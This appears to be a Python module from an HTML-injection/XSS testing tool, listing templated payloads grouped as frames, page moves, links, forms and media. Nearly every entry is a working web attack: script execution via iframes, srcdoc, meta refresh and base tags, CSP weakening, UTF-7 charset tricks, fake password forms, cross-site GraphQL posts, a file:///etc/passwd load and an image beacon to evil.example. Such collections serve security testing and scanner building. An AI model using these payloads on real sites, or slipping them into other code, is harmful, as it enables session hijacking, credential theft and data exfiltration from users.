"""What loads, frames, sends or moves the page."""
# ruff: noqa: E501  (what is hostile stays on one line)

from collections.abc import Mapping
from typing import Final

_FRAMES: Final = {
    "iframe": "<iframe src=%URL%></iframe>",
    "iframe by javascript": '<iframe src="javascript:%JS%"></iframe>',
    "iframe of data": '<iframe src="data:text/html,<script>%JS%</script>"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>%JS%</script>"></iframe>',
    "srcdoc by entities": '<iframe srcdoc="&lt;script&gt;%JS%&lt;/script&gt;"></iframe>',
    "srcdoc that climbs": '<iframe srcdoc="<script>if(parent.secret)%SAW%;%JS%</script>"></iframe>',
    "sandbox loosened": '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>%JS%</script>"></iframe>',
    "lazy iframe": "<iframe loading=lazy src=%URL%></iframe>",
    "about:blank by script": "<iframe id=f%ID%></iframe><script>f%ID%.contentWindow.eval('%JS%')</script>",
    "object": "<object data=%URL%></object>",
    "object of data": '<object data="data:text/html,<script>%JS%</script>"></object>',
    "object with parameters": '<object><param name=movie value="%URL%"><param name=src value="%URL%"><embed src=%URL%></object>',
    "embed": "<embed src=%URL%>",
    "embed by javascript": '<embed src="javascript:%JS%">',
    "applet": "<applet code=%URL% archive=%URL%></applet>",
    "portal": "<portal src=%URL%></portal>",
    "fenced frame": "<fencedframe src=%URL%></fencedframe>",
    "frameset": "<frameset><frame src=%URL%><frame src='javascript:%JS%'></frameset>",
    "fallback of noframes": "<noframes><img src=x onerror=%JS%></noframes><noembed><img src=x onerror=%JS%></noembed>",
}

_MOVES: Final = {
    "refresh": '<meta http-equiv="refresh" content="0;url=%URL%">',
    "refresh by javascript": '<meta http-equiv="refresh" content="0;url=javascript:%JS%">',
    "refresh by data": '<meta http-equiv="refresh" content="0;url=data:text/html,<script>%JS%</script>">',
    "refresh in disguise": "<meta/http-equiv=refresh/content='0;URL=&#x27;%URL%&#x27;'>",
    "policy weakened": "<meta http-equiv=content-security-policy content=\"default-src * 'unsafe-inline'\"><script>%JS%</script>",
    "cookie set": "<meta http-equiv=set-cookie content='session=mine'>",
    "charset": '<meta charset="utf-7"><meta http-equiv=content-type content="text/html;charset=utf-7">+ADw-script+AD4-%JS%+ADw-/script+AD4-',
    "referrer": "<meta name=referrer content=unsafe-url><img src=%URL%>",
    "base": '<base href="%URL%/"><a href="x">x</a><img src=y>',
    "base by javascript": '<base href="javascript:/x/;%JS%//"><a href="#">x</a>',
    "base with a target": '<base target=_top><a href="%URL%">x</a>',
    "top navigated": "<script>%JS%;top.location='%URL%'</script>",
    "parent navigated": "<script>%JS%;parent.location.href='%URL%'</script>",
    "opened by name": "<script>%JS%;open('%URL%','session','popup')</script>",
    "history": "<script>%JS%;history.pushState(0,'','/graphql')</script>",
    "link to top": '<a href="javascript:%JS%" target=_top>x</a><a href="javascript:%JS%" target=_parent>x</a>',
    "area": '<map name=m%ID%><area href="javascript:%JS%" shape=default></map><img usemap=#m%ID% src=x>',
    "link with target and name": '<a href="javascript:%JS%" target="session" name="session" download="x.html" ping="%URL%">x</a>',
    "download": '<a href="data:text/html,<script>%JS%</script>" download="x.html">x</a>',
}

_LINKS: Final = {
    "style sheet": '<link rel="stylesheet" href="%URL%">',
    "style sheet of data": '<link rel=stylesheet href="data:text/css,@import url(%URL%)">',
    "alternate style sheet": '<link rel="alternate stylesheet" title=x href="%URL%">',
    "prefetch": '<link rel="prefetch" href="%URL%">',
    "preload": '<link rel=preload as=image href="%URL%">',
    "preload by imagesrcset": '<link rel=preload as=image imagesrcset="%URL% 1x">',
    "module preload": '<link rel=modulepreload href="%URL%">',
    "prerender": '<link rel="prerender" href="%URL%">',
    "preconnect": '<link rel="preconnect" href="http://%HOST%">',
    "dns-prefetch": '<link rel="dns-prefetch" href="//%HOST%">',
    "icon": '<link rel="icon" href="%URL%"><link rel="apple-touch-icon" href="%URL%">',
    "manifest": '<link rel="manifest" href="%URL%">',
    "import": '<link rel="import" href="%URL%">',
    "in the body property": '<link itemprop=x rel=stylesheet href="%URL%">',
}

_FORMS: Final = {
    "action": '<form action="%URL%"><input name=a value=b><input type=submit></form>',
    "action by javascript": '<form action="javascript:%JS%"><button>x</button></form>',
    "formaction": '<form><button formaction="javascript:%JS%">x</button><input type=image formaction="javascript:%JS%"></form>',
    "button of another form": '<form id=f%ID%></form><button form=f%ID% formaction="javascript:%JS%">x</button>',
    "isindex": '<isindex action="javascript:%JS%" type=submit>',
    "password": '<form action="%URL%"><input name=user autocomplete=username><input type=password name=p autocomplete=current-password></form>',
    "sent by script": '<form id=g%ID% action="%URL%" method=post><input name=a></form><script>%JS%;g%ID%.submit()</script>',
    "input image": '<input type=image src="%URL%" onerror=%JS%>',
    "keygen and datalist": "<keygen autofocus onfocus=%JS%><datalist id=d><option value=x onclick=%JS%></datalist>",
    "graphql by a form": '<form action="/graphql" method=post enctype="text/plain"><input name=\'{"query":"\' value=\'{__typename}"}\'><button>x</button></form>',
}

_MEDIA: Final = {
    "image": "<img src=%URL%>",
    "image lazily": "<img loading=lazy src=%URL%>",
    "image without scheme": "<img src=//%HOST%/p%ID%x>",
    "image by backslashes": r"<img src='\\%HOST%\p%ID%x'><img src='http:\\%HOST%\p%ID%x'>",
    "image with blanks in its scheme": "<img src='ht\ttp\n://%HOST%/p%ID%x'>",
    "image on another host": "<img src=https://evil.example/p%ID%x>",
    "srcset": '<img srcset="%URL% 1x, %URL% 2x">',
    "srcset after data": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="%URL% 1w" sizes=1px>',
    "picture source": '<picture><source srcset="%URL%"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></picture>',
    "data that is none": '<img src="data:%URL%"><img src="data:image/png;base64,x, %URL%">',
    "low source": '<img lowsrc="%URL%" dynsrc="%URL%" longdesc="%URL%" src=x>',
    "poster": '<video poster="%URL%"></video>',
    "video source": "<video autoplay muted><source src=%URL%></video>",
    "audio": "<audio autoplay src=%URL%></audio>",
    "track": "<video src=%URL%><track default src=%URL%></video>",
    "background": '<table background="%URL%"><tr><td background="%URL%">x</table><body background="%URL%">',
    "input": "<input type=image src=%URL%>",
    "ping": '<a href="#x" ping="%URL%">x</a>',
    "attribution": '<img attributionsrc="%URL%" src=x><a attributionsrc="%URL%" href="#x">x</a>',
    "citations": '<q cite="%URL%">x</q><blockquote cite="%URL%">x</blockquote><del cite="%URL%">x</del>',
    "html manifest": '<html manifest="%URL%"><head profile="%URL%">',
    "bgsound": "<bgsound src=%URL%><layer src=%URL%></layer><ilayer src=%URL%></ilayer>",
    "image named like a file": "<img src=file:///etc/passwd><img src=/graphql?query={viewer{user{login}}}>",
    "blob and filesystem": "<img src=blob:http://%HOST%/p%ID%x><img src=filesystem:http://%HOST%/p%ID%x>",
}

FAMILIES: Final[Mapping[str, Mapping[str, str]]] = {"frames": _FRAMES, "moves": _MOVES, "links": _LINKS, "forms": _FORMS, "media": _MEDIA}
